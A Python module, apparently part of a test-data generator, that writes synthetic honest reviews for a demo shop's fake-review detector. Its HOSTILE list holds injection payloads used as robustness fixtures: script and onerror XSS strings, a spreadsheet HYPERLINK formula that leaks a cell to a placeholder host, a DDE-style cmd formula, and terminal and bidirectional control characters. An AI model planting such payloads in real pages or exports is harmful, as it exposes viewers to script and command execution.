"""The honest side of the shop: everybody who writes what they think, in all the ways that only look odd.

Each method returns the drafts of one habit. The habits are known sources of false alarms: platform default
texts, two-character praise, one text for all items of an order, loyal regulars, sale seasons, copied jokes,
talk of points and coupons, and bad reviews that expose how praise is bought.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from datetime import date, datetime, timedelta
from typing import Any

from .people import People
from .seasons import DEFAULT_AFTER, ordinary_time, within
from .shop import Account, DemoProduct, Draft
from .voice import Voice

HOSTILE: tuple[tuple[str, str], ...] = (
    ("woodgrain-thermos-500", "杯子不错。<script>alert(1)</script> 保温也够用"),
    ("linen-bedding-set", '=HYPERLINK("http://example.invalid/?x="&A1,"点我") 四件套摸着舒服'),
    ("folding-camp-chair", "\x1b[31m红字\x1b[0m 椅子坐着稳，收起来也快"),
    ("folding-umbrella", "伞挺好\u202e好不差\u202c，就是颜色深了点"),
    ("steel-wok-30", "<img src=x onerror=alert(1)>锅不粘，火候匀"),
    ("nut-gift-box", "@SUM(1+1)*cmd|' /C echo'!A0 坚果新鲜，没有哈喇味"),
)
"""Texts that attack whatever shows them: a page, a spreadsheet, a terminal. (slug, text)"""

MARKED_UP: tuple[tuple[str, str, str], ...] = (
    ("amber-desk-lamp", "台灯真的不闪，推荐给熬夜的人", "台灯<strong>真的</strong>不闪，推荐给熬夜的人"),
    (
        "grip-yoga-mat",
        "垫子照片在这里，厚度够",
        '垫子照片在<a href="http://example.invalid/p" rel="nofollow ugc">这里</a>，厚度够',
    ),
)
"""Reviews with the few tags that the shop's software lets through. (slug, text, stored HTML)"""

SALE_CONTROLS = (("quickdry-tee", date(2025, 6, 20), 34), ("lidded-storage-box", date(2025, 11, 13), 38))
"""The controls: many reviews in the week after a sale, as honest as any. (slug, first day, reviews)"""
_SALE_DAYS = 7


class Honest:
    """Writes honest reviews. One instance a shop; every call draws from the same generator."""

    def __init__(self, products: Sequence[DemoProduct], people: People, rng: random.Random) -> None:
        self._products = products
        self._people = people
        self._rng = rng
        self._voice = Voice(rng)

    def ordinary(self, count: int) -> list[Draft]:
        """Considered reviews of three to five stars."""
        return [self._opinion(self._product(), self._people.ordinary(), "ordinary") for _ in range(count)]

    def sale_controls(self) -> list[Draft]:
        """The crowds of `SALE_CONTROLS`, with the usual mix of habits and stars."""
        drafts: list[Draft] = []
        for slug, start, count in SALE_CONTROLS:
            product = self._named(slug)
            drafts += [self._shopper(product, within(start, _SALE_DAYS, self._rng)) for _ in range(count)]
        return drafts

    def regulars(self, count: int) -> list[Draft]:
        """Loyal customers: six to fourteen reviews each over the years, every one in its own words."""
        drafts: list[Draft] = []
        for _ in range(count):
            account = self._people.new()
            bought = self._rng.sample(self._products, self._rng.randint(6, 14))
            drafts += [self._opinion(product, account, "regular") for product in bought]
        return drafts

    def bulk(self, count: int) -> list[Draft]:
        """Customers who paste one text under every item of an order, within minutes."""
        return [draft for _ in range(count) for draft in self._bulk_order()]

    def short(self, count: int) -> list[Draft]:
        """A word or two."""
        return [self._short(self._product(), ordinary_time(self._rng)) for _ in range(count)]

    def defaults(self, count: int) -> list[Draft]:
        """Texts that the shop's software writes when the buyer says nothing."""
        return [self._default(self._product(), ordinary_time(self._rng, True)) for _ in range(count)]

    def memes(self, count: int) -> list[Draft]:
        """Jokes about being too lazy to write, pasted word for word."""
        return [self._draft(self._product(), 5, self._voice.pick("meme", "texts"), "meme") for _ in range(count)]

    def platform(self, count: int) -> list[Draft]:
        """Talk of the platform's own points, coupons and price protection."""
        return [self._remark("platform") for _ in range(count)]

    def lookalikes(self, count: int) -> list[Draft]:
        """Words of paid praise with another meaning."""
        return [self._remark("lookalike") for _ in range(count)]

    def complaints(self, count: int) -> list[Draft]:
        """One and two stars: what broke, what the seller said."""
        return [self._complaint(self._product(), "complaint") for _ in range(count)]

    def critics(self) -> list[Draft]:
        """Bad reviews that say how others' praise is bought: witnesses and accusers."""
        products = [self._product() for _ in range(20)]
        texts = self._voice.criticisms(products)
        return [self._draft(product, 1, text, "critic") for product, text in zip(products, texts, strict=False)]

    def english(self, count: int) -> list[Draft]:
        """Visitors from abroad, one in five unhappy."""
        goods = [p for p in self._products if not p.edible]
        return [self._english(self._rng.choice(goods), self._rng.random() < 0.2) for _ in range(count)]

    def hostile(self) -> list[Draft]:
        """`HOSTILE` and `MARKED_UP`."""
        attacks = [self._visitor(slug, text, None) for slug, text in HOSTILE]
        return attacks + [self._visitor(*review) for review in MARKED_UP]

    def _shopper(self, product: DemoProduct, when: datetime) -> Draft:
        roll = self._rng.random()
        if roll < 0.28:
            return self._default(product, when + DEFAULT_AFTER)
        if roll < 0.42:
            return self._short(product, when)
        if roll < 0.52:
            return self._complaint(product, "festival", when=when)
        return self._opinion(product, self._people.ordinary(), "festival", when=when)

    def _opinion(self, product: DemoProduct, account: Account, role: str, **more: Any) -> Draft:
        rating = self._rng.choices((5, 4, 3), weights=(62, 26, 12))[0]
        reserved = rating == 4 and self._rng.random() < 0.6
        text = self._voice.praise(product, reserved) if rating > 3 else self._voice.lukewarm(product)
        return self._draft(product, rating, text, role, account=account, **more)

    def _complaint(self, product: DemoProduct, role: str, **more: Any) -> Draft:
        rating = self._rng.choices((1, 2), weights=(7, 3))[0]
        return self._draft(product, rating, self._voice.complaint(product), role, **more)

    def _remark(self, kind: str) -> Draft:
        product = self._product()
        return self._draft(product, self._rng.choice((5, 5, 4)), self._voice.remark(kind, product), kind)

    def _short(self, product: DemoProduct, when: datetime) -> Draft:
        rating = self._rng.choices((5, 4, 3, 2, 1), weights=(72, 14, 7, 3, 4))[0]
        tone = "praise" if rating > 3 else "neutral" if rating == 3 else "negative"
        return self._draft(product, rating, self._voice.pick("short", tone), "short", when=when)

    def _default(self, product: DemoProduct, when: datetime) -> Draft:
        rating = 5 if self._rng.random() < 0.98 else 4
        return self._draft(product, rating, self._voice.pick("default", "texts"), "default", when=when)

    def _bulk_order(self) -> list[Draft]:
        rng, account = self._rng, self._people.new()
        items = rng.sample(self._products, rng.randint(2, 5))
        text, when = self._voice.order(items[0]), ordinary_time(rng)
        moments = [when + timedelta(seconds=25 * n + rng.randrange(20)) for n in range(len(items))]
        return [
            self._draft(item, 5, text, "bulk", account=account, when=moment)
            for item, moment in zip(items, moments, strict=True)
        ]

    def _english(self, product: DemoProduct, bad: bool) -> Draft:
        rating = self._rng.choice((1, 2) if bad else (5, 5, 4))
        text = self._voice.english(product, bad)
        return self._draft(product, rating, text, "english", account=self._people.ordinary("en"), language="en")

    def _visitor(self, slug: str, text: str, markup: str | None) -> Draft:
        return self._draft(self._named(slug), 4, text, "hostile", verified=False, markup=markup)

    def _named(self, slug: str) -> DemoProduct:
        return next(p for p in self._products if p.slug == slug)

    def _product(self) -> DemoProduct:
        return self._rng.choices(self._products, weights=[p.weight for p in self._products])[0]

    def _draft(self, product: DemoProduct, rating: int, text: str, role: str, **more: Any) -> Draft:
        more.setdefault("account", None)
        more["account"] = more["account"] or self._people.ordinary()
        more["when"] = more.get("when") or ordinary_time(self._rng)
        more.setdefault("verified", self._rng.random() < 0.93)
        return Draft(product=product, rating=rating, text=text, role=role, **more)
